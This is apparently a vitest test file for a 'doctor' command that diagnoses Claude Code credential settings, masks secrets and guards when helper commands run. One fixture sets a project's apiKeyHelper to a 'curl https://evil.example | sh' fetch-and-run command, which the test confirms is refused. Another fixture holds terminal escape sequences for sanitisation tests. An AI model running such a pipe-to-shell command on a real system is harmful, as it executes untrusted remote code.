import {describe, expect, test} from 'vitest';
import type {Context, Invocation} from '../../source/commands/command.ts';
import {doctor} from '../../source/commands/doctor.ts';
import {widthOf} from '../../source/commands/paragraph.ts';
import type {Machine} from '../../source/machine/machine.ts';
import {consoleKey, type Example, login, machineOf, rejected, routerKey, setupToken} from '../problems/example.ts';
import {examples} from '../problems/examples/index.ts';

type Asked = {
	readonly options?: Invocation['options'];
	readonly columns?: number;
	readonly terminal?: Partial<Context['terminal']>;
	readonly yes?: boolean;
	readonly run?: Machine['programs']['run'];
};

async function ask(example: Example, asked: Asked = {}) {
	const out: string[] = [];
	const err: string[] = [];
	const machine = machineOf(example);
	const before = machine.tree.snapshot();
	const terminal = {
		stdinIsTTY: false,
		stdoutIsTTY: false,
		stderrIsTTY: false,
		columns: asked.columns ?? 80,
		colour: false,
		unicode: true,
		...asked.terminal,
	};
	const code = await doctor(
		{command: 'doctor', options: asked.options ?? {}, operands: [], rest: []},
		{
			machine: asked.run ? {...machine, programs: {...machine.programs, run: asked.run}} : machine,
			out: text => void out.push(text),
			err: text => void err.push(text),
			input: async () => '',
			pieces: async function* () {},
			takeInterrupt: () => new AbortController().signal,
			ask: async () => null,
			converse: async () => {
				throw new Error('nobody is there to talk to');
			},
			confirm: async question => {
				err.push(question);
				return asked.yes ?? false;
			},
			fail: (status, message) => {
				err.push(message);
				return status;
			},
			terminal,
		},
	);
	expect(machine.tree.snapshot()).toEqual(before);
	return {code, out: out.join('\n'), err: err.join('\n')};
}

async function askJson(example: Example, options: Invocation['options'] = {}) {
	const {code, out} = await ask(example, {options: {...options, json: true}});
	return {code, ...JSON.parse(out)};
}

const both: Example = {
	name: 'both',
	user: {env: {ANTHROPIC_AUTH_TOKEN: routerKey}},
	variables: {ANTHROPIC_API_KEY: consoleKey, ANTHROPIC_BASE_URL: 'https://router.example/api'},
	files: {'~/.zshrc': `export ANTHROPIC_BASE_URL=https://router.example/api\n`},
};

describe('--json', () => {
	test('is the object of the contract', async () => {
		const {code, ...told} = await askJson(both);
		expect(code).toBe(1);
		expect(told.schema).toBe(1);
		expect(told.live).toBeNull();
		expect(told.claude).toMatchObject({path: '/usr/local/bin/claude', version: '2.1.329', install: 'unknown', others: []});
		expect(told.request.headless).toMatchObject({
			sends: true,
			url: 'https://router.example/api/v1/messages',
			authorization: {
				place: 'user-settings',
				variable: 'ANTHROPIC_AUTH_TOKEN',
				file: '~/.claude/settings.json',
				line: 3,
				state: 'text',
				shown: 'sk-or-v1-…cdef',
				wins: true,
			},
			xApiKey: {place: 'shell', variable: 'ANTHROPIC_API_KEY', file: null, line: null, wins: true},
			headers: [],
		});
		expect(told.request.interactive.xApiKey).toBeNull();
		expect(told.findings).toMatchObject([
			{
				id: 'both-set',
				severity: 'error',
				fix: {command: 'wizard --repair'},
				evidence: [{variable: 'ANTHROPIC_AUTH_TOKEN'}, {variable: 'ANTHROPIC_API_KEY'}],
			},
		]);
		expect(typeof told.findings[0].fix.edits).toBe('number');
	});

	test('every source has the fields of the contract, winners and losers alike', async () => {
		const {facts} = await askJson({...both, user: {env: {ANTHROPIC_AUTH_TOKEN: routerKey, ANTHROPIC_API_KEY: ''}}});
		const fields = ['place', 'variable', 'file', 'line', 'column', 'state', 'shown', 'wins', 'reason'];
		for (const fact of facts) expect(Object.keys(fact)).toEqual(expect.arrayContaining(fields));
		expect(
			facts.find((fact: {place: string; variable: string}) => fact.place === 'shell' && fact.variable === 'ANTHROPIC_API_KEY'),
		).toMatchObject({
			wins: false,
			reason: expect.stringMatching(/outranks the shell/),
		});
		expect(facts.some((fact: {state: string}) => fact.state === 'absent')).toBe(false);
	});

	test('nothing sent, and why; no claude is null', async () => {
		const told = await askJson({name: 'declined', variables: {ANTHROPIC_API_KEY: consoleKey}, state: rejected, claude: null});
		expect(told.claude).toBeNull();
		expect(told.rules).toEqual({of: '2.1.329', certainty: 'no-claude'});
		expect(told.request.interactive).toEqual({
			sends: false,
			url: null,
			authorization: null,
			xApiKey: null,
			because: 'key-declined',
			reason: 'key was declined in the approval dialog',
		});
		expect(told.findings.map((finding: {id: string; severity: string}) => [finding.id, finding.severity])).toEqual([
			['key-not-approved', 'error'],
			['cli-missing', 'warning'],
		]);
	});

	test('a helper says where it is set; an empty header says that it is empty', async () => {
		const helper = await askJson({name: 'helper', user: {apiKeyHelper: 'echo key'}});
		expect(helper.request.headless.authorization).toMatchObject({
			place: 'helper',
			variable: 'apiKeyHelper',
			in: 'user-settings',
			state: 'text',
		});
		const empty = await askJson({name: 'empty', variables: {ANTHROPIC_AUTH_TOKEN: ' '}, claude: '2.0.77'});
		expect(empty.request.headless.authorization).toMatchObject({variable: 'ANTHROPIC_AUTH_TOKEN', state: 'empty'});
	});

	test('warnings alone are exit code 0', async () => {
		const {code, findings} = await askJson({name: 'x', login, variables: {ANTHROPIC_AUTH_TOKEN: 'of-a-shape-nobody-knows'}});
		expect([code, findings.map((finding: {severity: string}) => finding.severity)]).toEqual([0, ['warning']]);
	});

	test('a healthy machine has no findings', async () => {
		expect(await askJson({name: 'login', login})).toMatchObject({code: 0, findings: []});
	});

	test('an unknown newer version uses the newest rules and says so', async () => {
		expect((await askJson({name: 'new', login, claude: '3.0.1'})).rules).toEqual({of: '2.1.329', certainty: 'newer'});
	});
});

describe('the page', () => {
	test('reads like this', async () => {
		expect((await ask(both)).out).toBe(`\
Claude Code 2.1.329  /usr/local/bin/claude
claude -p sends
  POST           https://router.example/api/v1/messages
  Authorization  Bearer sk-or-v1-…cdef  ANTHROPIC_AUTH_TOKEN
                   ~/.claude/settings.json:3
  x-api-key      sk-ant-api03-…T-AA  ANTHROPIC_API_KEY  this shell
  model          claude-opus-5-5
claude (interactive) sends the same, except
  x-api-key      not sent

Values found
  ✓ ANTHROPIC_API_KEY     sk-ant-api03-…T-AA    text  this shell
      claude -p only: not approved yet: the dialog asks first
  ✓ ANTHROPIC_AUTH_TOKEN  sk-or-v1-…cdef        text  ~/.claude/settings.json:3
  ✓ ANTHROPIC_BASE_URL    https://router.exam…  text  this shell, by ~/.zshrc:1

✗ Two credentials go out with every request                             both-set
  Found   ANTHROPIC_AUTH_TOKEN  sk-or-v1-…cdef      ~/.claude/settings.json:3
          ANTHROPIC_API_KEY     sk-ant-api03-…T-AA  this shell
  Why     ANTHROPIC_AUTH_TOKEN is sent as Authorization and ANTHROPIC_API_KEY as
          x-api-key by \`claude -p\`. Which one counts depends on the endpoint:
          LiteLLM takes the first, new-api relays the second, and the other is
          refused or ignored without a word.
  Fix     Remove ANTHROPIC_API_KEY wherever it is set: what it holds is of no
          use at this endpoint. (1 edit, undo kept)
          wizard --repair

1 error`);
	});

	test('advises no claude command where there is no claude', async () => {
		expect((await ask({name: 'empty'})).out).toContain('claude auth login');
		const {out} = await ask({name: 'empty', claude: null});
		expect(out).toContain('Set up a key, or install claude and sign in.');
		expect(out).not.toContain('claude auth login');
	});

	test('cuts a value that is masked already without a second sign for it', async () => {
		const {out} = await ask({name: 'helper', user: {apiKeyHelper: `echo ${consoleKey}`}});
		expect(out).toContain('echo sk-ant-api03-…');
		expect(out).not.toContain('……');
	});

	test('says in one sentence why nothing is sent', async () => {
		const {out} = await ask({name: 'empty'});
		expect(out).toContain('claude and claude -p send nothing: no credential is set ("Not logged in")');
	});

	test('a healthy one is short', async () => {
		const {code, out} = await ask({name: 'login', login});
		expect(code).toBe(0);
		expect(out.split('\n').length).toBeLessThanOrEqual(12);
		expect(out).toContain('✓ Nothing wrong found. Nothing was sent or changed.');
	});

	test('fits its width, whatever is wrong', async () => {
		for (const columns of [40, 80]) {
			for (const example of examples.flatMap(({fires}) => fires.slice(0, 3))) {
				const {out} = await ask(example, {columns, options: {all: true}});
				for (const line of out.split('\n')) expect(widthOf(line), `${example.name}: ${line}`).toBeLessThanOrEqual(columns);
			}
		}
	});

	test('colours only where they are wanted, ASCII where nothing else is shown, and the words are the same', async () => {
		const plain = await ask(both);
		const coloured = await ask(both, {terminal: {colour: true}});
		expect(plain.out).not.toContain('\u001B');
		expect(coloured.out.replace(/\u001B\[\d+m/g, '')).toBe(plain.out);
		const ascii = await ask(both, {terminal: {unicode: false}});
		expect(ascii.out).toMatch(/^[\x20-\x7E\n]*$/);
	});

	test('control characters of a value do not reach the terminal', async () => {
		const nasty = 'https://gw.example.com/\u001B[2J\u001B]0;x\u0007\u202Eabc';
		for (const options of [{}, {all: true as const}, {json: true as const}]) {
			const {out} = await ask(
				{name: 'nasty', variables: {ANTHROPIC_BASE_URL: nasty, ANTHROPIC_AUTH_TOKEN: 'x\u001B[31m', ANTHROPIC_MODEL: 'm\u001B[1m'}},
				{options},
			);
			expect(out).not.toMatch(/[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u202A-\u202E]/);
		}
	});
});

describe('no secret is told', () => {
	const secrets = ['Ab3dEf9hAb3d', '0123456789abcdef0123', 'Zy8xWv7uZy8x', 'Mn6bVc5x'];
	const everywhere: Example = {
		name: 'everywhere',
		variables: {
			ANTHROPIC_API_KEY: consoleKey,
			ANTHROPIC_AUTH_TOKEN: `Bearer ${routerKey}`,
			CLAUDE_CODE_OAUTH_TOKEN: setupToken,
			ANTHROPIC_BASE_URL: `https://user:${routerKey}@gw.example.com/${routerKey}/v1?key=${consoleKey}`,
			ANTHROPIC_CUSTOM_HEADERS: `x-litellm-api-key: Bearer ${routerKey}\nX-Team: ${consoleKey}`,
			HTTPS_PROXY: `http://me:${routerKey}@proxy:8080`,
			ANTHROPIC_MODEL: routerKey,
			AWS_BEARER_TOKEN_BEDROCK: routerKey,
		},
		user: {
			env: {ANTHROPIC_API_KEY: `"${consoleKey}"`, SOME_TOKEN: routerKey},
			apiKeyHelper: `/opt/${routerKey}/key.sh --key ${consoleKey}`,
		},
		project: `{"env": {"ANTHROPIC_AUTH_TOKEN": "${routerKey}", }}`,
		local: {apiKeyHelper: `echo ${routerKey}`, env: {ANTHROPIC_BASE_URL: `https://gw.example.com/${routerKey}`}},
		state: {
			primaryApiKey: consoleKey,
			customApiKeyResponses: {approved: [], rejected: [consoleKey.slice(-20)]},
			env: {ANTHROPIC_AUTH_TOKEN: routerKey},
		},
		login,
		files: {
			'~/.zshrc': `export ANTHROPIC_API_KEY="${consoleKey}"\n`,
			'~/work/.env': `ANTHROPIC_API_KEY=${consoleKey}\nOPENAI_API_KEY=${routerKey}\n`,
			'/usr/bin/claude': {text: `#!/bin/sh\nANTHROPIC_AUTH_TOKEN=${routerKey} exec claude\n`, mode: 0o755},
		},
	};
	const run: Machine['programs']['run'] = async (_, args) =>
		args.includes('status')
			? {
					state: 'ended',
					code: 0,
					stdout: JSON.stringify({loggedIn: true, authMethod: routerKey, apiKeySource: consoleKey, email: consoleKey}),
					stderr: consoleKey,
				}
			: {state: 'ended', code: 0, stdout: args.includes('--version') ? '2.1.329 (Claude Code)' : `${routerKey}\n`, stderr: consoleKey};

	test.each([
		{},
		{all: true},
		{json: true},
		{witness: true},
		{'run-helpers': true},
		{json: true, witness: true, 'run-helpers': true},
	] as const)('%j', async options => {
		const {out, err} = await ask(everywhere, {options, run, yes: true, terminal: {stdinIsTTY: true}});
		expect(out.length).toBeGreaterThan(500);
		for (const secret of [...secrets, consoleKey.slice(-20)]) expect(`${out}\n${err}`.includes(secret), secret).toBe(false);
	});

	test.each(examples.flatMap(({id, fires}) => fires.map(example => ({...example, name: `${id}: ${example.name}`}))))(
		'$name',
		async example => {
			const page = await ask(example, {options: {all: true}});
			const json = await ask(example, {options: {json: true}});
			for (const secret of secrets) expect([page.out, page.err, json.out, json.err].some(text => text.includes(secret))).toBe(false);
		},
	);
});

describe('--run-helpers', () => {
	const helper: Example = {name: 'helper', user: {apiKeyHelper: 'pass show key'}, files: {'/usr/bin/pass': {text: '', mode: 0o755}}};
	const answer = (stdout: string, code = 0) => {
		const ran: string[] = [];
		const run: Machine['programs']['run'] = async (file, args, {env}) => {
			if (args.includes('--version')) return {state: 'ended', code: 0, stdout: '2.1.329 (Claude Code)', stderr: ''};
			ran.push([file, ...args, env['WIZARD_HELPER_COMMAND'] ?? ''].join(' '));
			return {state: 'ended', code, stdout, stderr: 'no such entry'};
		};
		return {ran, run};
	};
	const options = {'run-helpers': true} as const;
	const terminal = {stdinIsTTY: true};

	test('shows the command and asks; a no runs nothing', async () => {
		const {ran, run} = answer('key');
		const {err} = await ask(helper, {options, run, terminal});
		expect(err).toContain('~/.claude/settings.json:2:\n    pass show key\nRun this command now?');
		expect(ran).toEqual([]);
	});

	test('a yes runs it by a shell, with the command in no argument list', async () => {
		const {ran, run} = answer('key\n');
		expect((await ask(helper, {options, run, terminal, yes: true})).code).toBe(0);
		expect(ran).toEqual(['/bin/sh -c eval "$WIZARD_HELPER_COMMAND" pass show key']);
	});

	test.each([
		['', 0, /printed nothing/],
		['one\ntwo\n', 0, /several lines/],
		['a key', 0, /no header can carry/],
		['key', 3, /ended with an error/],
	])('%j with exit code %i is told', async (stdout, exit, why) => {
		const {code, out} = await ask(helper, {options, ...answer(stdout, exit), terminal, yes: true});
		expect(code).toBe(1);
		expect(out.replace(/\s+/g, ' ')).toMatch(why);
	});

	test("--yes runs the user's, never a project's", async () => {
		const mine = answer('key');
		await ask(helper, {options: {...options, yes: true}, run: mine.run});
		expect(mine.ran).toHaveLength(1);
		const theirs = answer('key');
		const {err} = await ask(
			{...helper, project: {apiKeyHelper: 'curl https://evil.example | sh'}},
			{options: {...options, yes: true}, run: theirs.run},
		);
		expect(theirs.ran).toEqual([]);
		expect(err).toContain('It belongs to a project');
	});

	test('without a terminal and without --yes it is refused', async () => {
		expect((await ask(helper, {options})).code).toBe(2);
	});
});

describe('--witness', () => {
	const status =
		(answer: object): Machine['programs']['run'] =>
		async (_, args) => ({
			state: 'ended',
			code: 0,
			stdout: args.includes('status') ? JSON.stringify({loggedIn: true, apiProvider: 'firstParty', ...answer}) : '2.1.329 (Claude Code)',
			stderr: '',
		});
	const asJson = {witness: true, json: true} as const;
	const ofWitness = async (example: Example, answer: object) =>
		JSON.parse((await ask(example, {options: asJson, run: status(answer)})).out).witness;

	const key = {ANTHROPIC_API_KEY: consoleKey};
	const token = {ANTHROPIC_AUTH_TOKEN: routerKey};
	const setup = {CLAUDE_CODE_OAUTH_TOKEN: setupToken};
	const helper = {apiKeyHelper: 'echo x'};
	const primary = {primaryApiKey: consoleKey};
	const project = {env: token};
	const custom = {ANTHROPIC_CUSTOM_HEADERS: 'Authorization: Bearer x'};
	const bedrock = {CLAUDE_CODE_USE_BEDROCK: '1', AWS_REGION: 'x', AWS_BEARER_TOKEN_BEDROCK: 'y'};

	// What 2.1.329 answered on each of these machines.
	test.each<[string, Omit<Example, 'name'>, string, string | undefined, string]>([
		['nothing', {}, 'none', undefined, 'agrees'],
		['token', {variables: token}, 'oauth_token', undefined, 'agrees'],
		['key', {variables: key}, 'api_key', 'ANTHROPIC_API_KEY', 'agrees'],
		['helper', {user: helper}, 'api_key_helper', 'apiKeyHelper', 'agrees'],
		['setup token', {variables: setup}, 'oauth_token', undefined, 'agrees'],
		['login', {login}, 'claude.ai', undefined, 'agrees'],
		['saved key', {state: primary}, 'api_key', '/login managed key', 'agrees'],
		['cloud', {variables: bedrock}, 'third_party', undefined, 'agrees'],
		['token and key', {variables: {...token, ...key}}, 'oauth_token', 'ANTHROPIC_API_KEY', 'agrees'],
		['token and helper', {variables: token, user: helper}, 'oauth_token', 'apiKeyHelper', 'agrees'],
		['token and saved key', {variables: token, state: primary}, 'oauth_token', '/login managed key', 'agrees'],
		['key and helper', {variables: key, user: helper}, 'api_key_helper', 'ANTHROPIC_API_KEY', 'agrees'],
		['key and setup token', {variables: {...key, ...setup}}, 'api_key', 'ANTHROPIC_API_KEY', 'agrees'],
		['key and login', {variables: key, login}, 'api_key', 'ANTHROPIC_API_KEY', 'agrees'],
		['helper and login', {user: helper, login}, 'api_key_helper', 'apiKeyHelper', 'agrees'],
		['project', {project}, 'none', undefined, 'does not read the settings of a project'],
		['project and login', {project, login}, 'claude.ai', undefined, 'does not read the settings of a project'],
		['custom header', {variables: custom}, 'none', undefined, 'does not count ANTHROPIC_CUSTOM_HEADERS'],
		['custom header and key', {variables: {...custom, ...key}}, 'api_key', 'ANTHROPIC_API_KEY', 'does not count ANTHROPIC_CUSTOM_HEADERS'],
		['login and saved key', {login, state: primary}, 'claude.ai', '/login managed key', 'also lists the key saved by /login'],
		['key and login, as 2.1.197 says it', {variables: key, login}, 'claude.ai', 'ANTHROPIC_API_KEY', 'lists what is there'],
	])('%s', async (name, example, authMethod, apiKeySource, verdict) => {
		const witness = await ofWitness({name, ...example}, {loggedIn: authMethod !== 'none', authMethod, apiKeySource});
		if (verdict === 'agrees') expect(witness).toMatchObject({state: 'agrees'});
		else expect(witness).toMatchObject({state: 'differs', explained: expect.stringContaining(verdict)});
	});

	test('what nothing explains is said', async () => {
		const {out} = await ask(
			{name: 'x', login},
			{options: {witness: true}, run: status({authMethod: 'api_key', apiKeySource: 'elsewhere'})},
		);
		expect(out.replace(/\s+/g, ' ')).toContain('no reason is known');
	});
});
